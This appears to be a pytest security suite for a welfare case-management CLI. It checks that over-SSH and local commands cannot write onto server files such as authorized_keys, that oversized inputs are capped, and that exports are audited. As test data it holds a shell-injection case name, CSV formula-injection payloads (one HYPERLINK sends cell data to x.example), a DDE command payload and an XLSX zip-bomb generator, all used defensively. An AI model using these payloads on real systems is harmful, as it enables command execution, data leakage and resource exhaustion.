"""The file boundary, attacked as the outside test of 2026-12 did (issue 12).

Every attack runs ``psm`` in a process of its own, on a server laid out like the README's: the
database and its backups under ``srv/``, the service account's home with ``.ssh`` and
``.profile``. A **remote** person is ``psm --as NAME`` run as the service account (the forced
command of their SSH key); a **local** person is the service account's own admin at the console.
Each attack is refused in one line with its exit code, the target is byte-identical after, and
the audit log has no gap.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import hashlib
import io
import json
import os
import pwd
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from bench.rss import CHILD, ENV, read_kib

pytestmark = pytest.mark.sqlite_only

KEY_LINE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBbQcCJ3lDeQ0aR1G7h0c2Qe2WmZ0Ixd admin@laptop\n"
REFUSED_PATH, TOO_LARGE, DATABASE_FILE = 9, 10, 11
RSS_LIMIT_KIB = 400 * 1024


@dataclass
class Done:
    code: int
    out: bytes
    err: str
    rss_kib: int


@dataclass
class Server:
    root: Path
    db: Path
    backups: Path
    home: Path
    env: dict[str, str]

    def run(
        self,
        *args: str,
        remote: str | None = None,
        stdin: bytes | Path | None = None,
        prefix: tuple[str, ...] = (),
        timeout: float = 60,
    ) -> Done:
        """``psm ARGS`` as the service account; ``remote``: through the forced command."""
        rss = self.root / "rss"
        command = [*prefix, sys.executable, "-c", CHILD, "--lang", "en"]
        if remote:
            command += ["--as", remote]
        with contextlib.ExitStack() as stack:
            if isinstance(stdin, Path):
                source: object = stack.enter_context(stdin.open("rb"))
            else:
                source = subprocess.DEVNULL if stdin is None else None
            done = subprocess.run(
                [*command, *args],
                input=stdin if isinstance(stdin, bytes) else None,
                stdin=source,  # type: ignore[arg-type]
                capture_output=True,
                env={**self.env, ENV: str(rss)},
                timeout=timeout,
            )
        used = read_kib(rss)
        return Done(done.returncode, done.stdout, done.stderr.decode(), used)

    def audit(self, action: str) -> list[tuple[str, str]]:
        with sqlite3.connect(self.db) as conn:
            rows = conn.execute(
                "SELECT username, changes FROM audit_log WHERE action = ? ORDER BY id", (action,)
            ).fetchall()
        conn.close()
        return rows


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def one_line(done: Done, code: int) -> None:
    assert done.code == code, (done.code, done.err)
    prefix = "Error: " if code == 2 else "psm: "  # usage errors are click's own
    assert done.err.startswith(prefix) and done.err.count("\n") == 1, done.err
    assert "Traceback" not in done.err


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    if os.geteuid() != 0:
        pytest.skip("needs root: PSM_SYSTEM_CONFIG must be owned by root")
    root = tmp_path_factory.mktemp("server")
    srv, home = root / "srv", root / "home"
    for folder in (srv, srv / "backups", home, home / ".ssh"):
        folder.mkdir(mode=0o700)
    (home / ".ssh" / "authorized_keys").write_text(
        'command="psm --as siti",restrict,pty ' + KEY_LINE
    )
    (home / ".profile").write_text("# the service account's login script\n")
    system = root / "system.toml"  # owned by root: only root could name the service account
    user = pwd.getpwuid(os.geteuid()).pw_name
    system.write_text(f'service_account = "{user}"\ndatabase = "{srv / "psm.db"}"\n')
    env = {
        **os.environ,
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "XDG_DATA_HOME": str(home / ".local/share"),
        "XDG_STATE_HOME": str(home / ".local/state"),
        "PSM_SYSTEM_CONFIG": str(system),
        "PSM_LANG": "en",
    }
    for name in ("PSM_DATABASE", "SSH_ORIGINAL_COMMAND", "PSM_TEST_DATABASE_URL"):
        env.pop(name, None)
    server = Server(root, srv / "psm.db", srv / "backups", home, env)
    for args in (
        ("init",),
        ("user", "add", "siti", "--role", "operator"),
        ("user", "add", "kadis", "--role", "viewer"),
        ("user", "add", "sri", "--role", "supervisor"),
        ("user", "add", "budi", "--role", "admin"),
        ("case", "new", "--name", "Budi;touch pwned;#", "--kelurahan", "Poris Plawad",
         "--category", "8", "--nik", "3671050101800001"),
        ("backup", str(srv / "backups" / "psm-20261204-011500.db")),
    ):  # fmt: skip
        done = server.run(*args)
        assert done.code == 0, done.err
    yield server


def _cases(db: Path) -> list[tuple[object, ...]]:
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        rows = conn.execute('SELECT number, version FROM "case" ORDER BY id').fetchall()
    conn.close()
    return rows


@pytest.fixture
def protected(server: Server) -> Iterator[dict[Path, str]]:
    """The files an attack aims at, byte-identical after each test; the live database (which
    the audit log keeps growing) still whole, with the same cases."""
    targets = [
        server.backups / "psm-20261204-011500.db",
        server.home / ".ssh" / "authorized_keys",
        server.home / ".profile",
    ]
    before = {path: _digest(path) for path in targets}
    cases = _cases(server.db)
    yield before
    assert {path: _digest(path) for path in targets} == before
    assert _cases(server.db) == cases
    assert (server.home / ".ssh" / "authorized_keys").read_text().count("\n") == 1
    assert not (server.root / "pwned").exists()


CASES_CSV = (
    "Nama;Kelurahan;Kategori;NIK\n"
    "Ani;Poris Plawad;8;3671054101900002\n"
    f"{KEY_LINE.strip()};Poris Plawad;8;123\n"
    '=HYPERLINK("http://x.example/?"&A1);Nowhere;8;\n'
    "+cmd|' /C calc'!A0;Poris Plawad;99;\n"
    "@SUM(1);Poris Plawad;8;1\n"
)


@pytest.fixture
def kasus(server: Server) -> Path:
    path = server.root / "kasus.csv"
    path.write_text(CASES_CSV, encoding="utf-8")
    return path


# --- reports and exports never land on a server file ---------------------------------------------


@pytest.mark.parametrize("target", ["srv/psm.db", "home/.ssh/authorized_keys"])
def test_remote_report_onto_a_server_file_is_refused(
    server: Server, protected: dict[Path, str], kasus: Path, target: str
) -> None:
    done = server.run(
        "import", "cases", "-", "--dry-run", "--report", str(server.root / target),
        remote="siti", stdin=kasus,
    )  # fmt: skip
    one_line(done, REFUSED_PATH)
    assert "Over SSH psm does not use paths on the server" in done.err
    assert "outbox" in done.err  # the line says what to do instead


@pytest.mark.parametrize("target", ["srv/psm.db", "home/.ssh/authorized_keys", "srv/r.csv"])
def test_local_report_onto_protected_files_is_refused(
    server: Server, protected: dict[Path, str], kasus: Path, target: str
) -> None:
    done = server.run(
        "import", "cases", str(kasus), "--dry-run", "--report", str(server.root / target),
        "--force",
    )  # fmt: skip
    one_line(done, REFUSED_PATH)
    assert not (server.root / "srv" / "r.csv").exists()


def test_remote_report_goes_to_the_outbox_private_and_defused(
    server: Server, protected: dict[Path, str], kasus: Path
) -> None:
    done = server.run(
        "import", "cases", "-", "--dry-run", "--report", "ditolak.csv",
        remote="siti", stdin=kasus,
    )  # fmt: skip
    assert done.code == 1, done.err  # all-or-nothing with refused rows: nothing imported
    assert "ssh dinsos outbox get ditolak.csv > ditolak.csv" in done.out.decode()
    report = server.db.parent / "outbox" / "siti" / "ditolak.csv"
    assert oct(report.stat().st_mode & 0o777) == "0o600"
    assert oct(report.parent.stat().st_mode & 0o777) == "0o700"
    rows = list(csv.reader(io.StringIO(report.read_text("utf-8-sig")), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert KEY_LINE.strip() in names  # the refused key line is data in the outbox, nothing more
    assert '\'=HYPERLINK("http://x.example/?"&A1)' in names
    assert "'+cmd|' /C calc'!A0" in names and "'@SUM(1)" in names
    fetched = server.run("outbox", "get", "ditolak.csv", remote="siti")
    assert fetched.code == 0 and fetched.out == report.read_bytes()
    assert [u for u, _c in server.audit("outbox.get")][-1] == "siti"


@pytest.mark.parametrize(
    ("kind", "target", "remote"),
    [
        ("report", "srv/backups/psm-20261204-011500.db", "kadis"),
        ("cases", "home/.profile", "siti"),
        ("cases", "home/.ssh/authorized_keys", "siti"),
    ],
)
def test_remote_export_names_no_server_path(
    server: Server, protected: dict[Path, str], kind: str, target: str, remote: str
) -> None:
    done = server.run("export", kind, "-o", str(server.root / target), remote=remote)
    one_line(done, REFUSED_PATH)
    assert "standard output" in done.err


@pytest.mark.parametrize(
    "target",
    [
        "srv/backups/psm-20261204-011500.db",
        "srv/psm.db",
        "srv/new.csv",
        "home/.profile",
        "home/.ssh/authorized_keys",
        "home/.bashrc",
    ],
)
def test_local_export_onto_protected_places_is_refused_even_with_force(
    server: Server, protected: dict[Path, str], target: str
) -> None:
    done = server.run("export", "cases", "--force", "-o", str(server.root / target))
    one_line(done, REFUSED_PATH)
    assert not (server.root / "srv" / "new.csv").exists()
    assert not (server.home / ".bashrc").exists()


def test_local_export_refuses_links_fifos_devices_folders_and_databases(
    server: Server, protected: dict[Path, str], tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    (tmp_path / "link.csv").symlink_to(victim)
    os.mkfifo(tmp_path / "fifo.csv")
    copy = tmp_path / "copy.db"
    shutil.copy(server.db, copy)
    database = _digest(copy)
    existing = tmp_path / "existing.csv"
    existing.write_text("old\n")
    for target, words in [
        (tmp_path / "link.csv", "symbolic link"),
        (tmp_path / "fifo.csv", "FIFO"),
        (Path("/dev/null"), "device"),
        (tmp_path, "folder"),
        (copy, "database file"),
    ]:
        done = server.run("export", "cases", "--force", "-o", str(target))
        one_line(done, REFUSED_PATH)
        assert words in done.err
    refused = server.run("export", "cases", "-o", str(existing))
    one_line(refused, REFUSED_PATH)
    assert "--force replaces it" in refused.err and existing.read_text() == "old\n"
    assert victim.read_text() == "keep me\n" and (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "fifo.csv").is_fifo() and Path("/dev/null").is_char_device()
    assert _digest(copy) == database
    replaced = server.run("export", "cases", "--force", "-o", str(existing))
    assert replaced.code == 0, replaced.err
    assert oct(existing.stat().st_mode & 0o777) == "0o600"
    assert existing.read_text("utf-8-sig").startswith("Case number,")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_remote_admin_commands_name_no_server_path(
    server: Server, protected: dict[Path, str], tmp_path: Path
) -> None:
    key = tmp_path / "siti.pub"
    key.write_text(KEY_LINE)
    keys = server.home / ".ssh" / "authorized_keys"
    for args in (
        ("ssh", "authorize", "siti", str(key)),
        ("ssh", "authorize", "siti", "siti.pub"),
        ("ssh", "authorize", "siti", "-", "--file", str(tmp_path / "keys")),
        ("backup", str(tmp_path / "b.db")),
        ("restore", str(server.backups / "psm-20261204-011500.db")),
    ):
        done = server.run(*args, remote="budi", stdin=key)
        one_line(done, REFUSED_PATH)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["siti.pub"]
    named = server.run("backup", "malam.db", remote="sri")
    assert named.code == 0, named.err
    assert (server.backups / "malam.db").read_bytes().startswith(b"SQLite format 3\x00")
    again = server.run("backup", "malam.db", remote="sri")
    one_line(again, REFUSED_PATH)
    assert keys.read_text().count("\n") == 1


# --- reading is bounded: no server path over SSH, only regular files, caps while reading ----------


def test_remote_import_of_a_server_path_is_refused(
    server: Server, protected: dict[Path, str]
) -> None:
    for path in ("/dev/zero", str(server.db), str(server.home / ".ssh" / "authorized_keys")):
        done = server.run("import", "cases", path, "--dry-run", remote="siti")
        one_line(done, REFUSED_PATH)
        assert "standard input" in done.err


def test_zeros_on_stdin_stop_at_the_cap_with_bounded_memory(server: Server) -> None:
    done = server.run("import", "cases", "-", "--dry-run", remote="siti", stdin=Path("/dev/zero"))
    one_line(done, TOO_LARGE)
    assert "larger than 64 MiB" in done.err
    assert 0 < done.rss_kib < RSS_LIMIT_KIB


def test_local_import_of_devices_and_fifos_is_refused_without_hanging(
    server: Server, tmp_path: Path
) -> None:
    fifo = tmp_path / "kasus.csv"
    os.mkfifo(fifo)
    for path in ("/dev/zero", str(fifo), str(tmp_path)):
        done = server.run("import", "cases", path, "--dry-run", timeout=20)
        one_line(done, REFUSED_PATH)
        assert "regular files or standard input" in done.err


def _bomb(path: Path, unpacked_mib: int) -> None:
    """A workbook whose one sheet unpacks to ``unpacked_mib`` MiB of blank XML."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(unpacked_mib):
                sheet.write(chunk)


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "kasus.xlsx"
    _bomb(path, 2400)
    return path


def test_an_xlsx_bomb_is_measured_not_unpacked(server: Server, bomb: Path) -> None:
    assert bomb.stat().st_size < 16 * 1024 * 1024
    for done in (
        server.run("import", "cases", str(bomb), "--dry-run"),
        server.run("import", "cases", "-", "--dry-run", remote="siti", stdin=bomb),
    ):
        one_line(done, TOO_LARGE)
        assert "unpacks to 2,400 MiB" in done.err
        assert 0 < done.rss_kib < RSS_LIMIT_KIB


def test_a_sparse_xlsx_spanning_the_whole_grid_is_refused_by_its_rows(
    server: Server, tmp_path: Path
) -> None:
    """A header row and one cell at XFD1048576: a 5 KB file that passes the archive caps but
    spans 17 billion cells. Every row padded to 16,384 cells kept a CPU busy for hours, and a
    reader that builds the grid first dies on it (calamine aborts, bench/notes/xlsxread.md):
    the row cap must refuse it, fast and in bounded memory."""
    path = tmp_path / "jarang.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Nama", "Kelurahan", "Kategori"])
    sheet["XFD1048576"] = 1
    book.save(path)
    assert path.stat().st_size < 16 * 1024
    done = server.run("import", "cases", str(path), "--dry-run", timeout=60)
    one_line(done, TOO_LARGE)
    assert "more than 200,000 rows" in done.err
    assert 0 < done.rss_kib < RSS_LIMIT_KIB


def test_a_csv_line_of_millions_of_cells_is_refused_before_it_is_split(
    server: Server, tmp_path: Path
) -> None:
    """60 MB of semicolons on one line was a list of 60 million cells (560 MB RSS)."""
    path = tmp_path / "titik-koma.csv"
    path.write_text("Nama;Kelurahan;Kategori\n" + ";" * 60_000_000 + "\n")
    done = server.run("import", "cases", str(path), "--dry-run")
    one_line(done, TOO_LARGE)
    assert "line 2: more than 256 cells in one row" in done.err
    assert 0 < done.rss_kib < 200 * 1024


def test_rows_and_bytes_are_capped(server: Server, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_text("Nama;Kelurahan;Kategori\n" + "Ani;Poris Plawad;8\n" * 2001)
    config = server.home / ".config" / "psm-tui" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("import_max_rows = 2000\n")
    try:
        done = server.run("import", "cases", str(big), "--dry-run")
        one_line(done, TOO_LARGE)
        assert "more than 2,000 rows" in done.err
        config.write_text("import_max_mib = 1\n")
        big.write_bytes(b"Nama;Kelurahan;Kategori\n" + b"x" * (1024 * 1024))
        done = server.run("import", "cases", str(big), "--dry-run")
        one_line(done, TOO_LARGE)
        assert "larger than 1 MiB" in done.err
    finally:
        config.unlink()


def test_a_huge_csv_cell_is_one_clear_line(server: Server, tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text("Nama;Kelurahan;Kategori\n" + "A" * 140_000 + ";Poris Plawad;8\n")
    done = server.run("import", "cases", str(path), "--dry-run")
    one_line(done, 1)
    assert "row 2: cannot be read (a cell is longer than 131,072 characters)" in done.err


# --- an export is audited before its first byte leaves ------------------------------------------


def test_export_to_a_closed_pipe_is_already_audited(server: Server) -> None:
    before = len(server.audit("export"))
    script = f"{sys.executable} -c '{CHILD}' --lang en --as sri export cases -o - | head -c 10"
    done = subprocess.run(
        ["sh", "-c", script],
        capture_output=True,
        env={**server.env, ENV: str(server.root / "rss")},
        timeout=60,
    )
    assert len(done.stdout) == 10 and b"Traceback" not in done.stderr
    started = server.audit("export")
    assert len(started) == before + 1
    who, changes = started[-1]
    assert who == "sri" and json.loads(changes)["output"] == "stdout"


def test_remote_workbook_on_stdout_is_byte_exact(server: Server) -> None:
    done = server.run("export", "cases", "--format", "xlsx", remote="sri")
    assert done.code == 0, done.err
    book = openpyxl.load_workbook(io.BytesIO(done.out), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "Case number" and len(rows) == 2
    kept = server.run("export", "cases", "--format", "xlsx", "-o", "kasus.xlsx", remote="sri")
    assert kept.code == 0 and "ssh dinsos outbox get kasus.xlsx > kasus.xlsx" in kept.err
    fetched = server.run("outbox", "get", "kasus.xlsx", remote="sri")
    outbox_file = server.db.parent / "outbox" / "sri" / "kasus.xlsx"
    assert fetched.out == outbox_file.read_bytes()
    assert zipfile.ZipFile(io.BytesIO(fetched.out)).testzip() is None
    listed = server.run("outbox", "list", "--json", remote="sri")
    [entry] = json.loads(listed.out)
    assert list(entry) == ["name", "size", "modified"]
    assert (entry["name"], entry["size"]) == ("kasus.xlsx", outbox_file.stat().st_size)
    assert "T" in entry["modified"] and dt.datetime.fromisoformat(entry["modified"])


# --- errors that used to be "Internal error" ------------------------------------------------------


def test_undecodable_argument_is_a_usage_error(server: Server) -> None:
    done = server.run("case", "list", "--search", os.fsdecode(b"\xff\xfeabc"))
    one_line(done, 2)
    assert "not valid UTF-8" in done.err and "\\xff" in done.err


DROP_OVERRIDE = ("setpriv", "--bounding-set=-dac_override,-dac_read_search")


@pytest.fixture
def database_copy(server: Server, tmp_path: Path) -> Iterator[Path]:
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is needed to drop root's file override")
    path = tmp_path / "data" / "psm.db"
    path.parent.mkdir()
    shutil.copy(server.db, path)
    path.chmod(0o600)
    yield path
    path.chmod(0o600)


def test_read_only_and_unreadable_databases_are_one_line(
    server: Server, database_copy: Path
) -> None:
    database_copy.chmod(0o400)
    done = server.run(
        "--db", str(database_copy), "case", "note", "2026-000001", "x", prefix=DROP_OVERRIDE
    )
    one_line(done, DATABASE_FILE)
    assert "read-only" in done.err
    database_copy.chmod(0o000)
    done = server.run("--db", str(database_copy), "case", "list", prefix=DROP_OVERRIDE)
    one_line(done, DATABASE_FILE)
    assert "Cannot open the database" in done.err
    database_copy.chmod(0o600)
    database_copy.write_bytes(b"this is not a database" * 100)
    done = server.run("--db", str(database_copy), "case", "list")
    one_line(done, DATABASE_FILE)
    assert "not a usable psm database" in done.err


def test_log_file_is_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from psm_tui.cli.log_file import log_stream

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    old = os.umask(0)
    try:
        stream, where = log_stream()
        stream.close()
    finally:
        os.umask(old)
    assert oct(Path(where).stat().st_mode & 0o777) == "0o600"
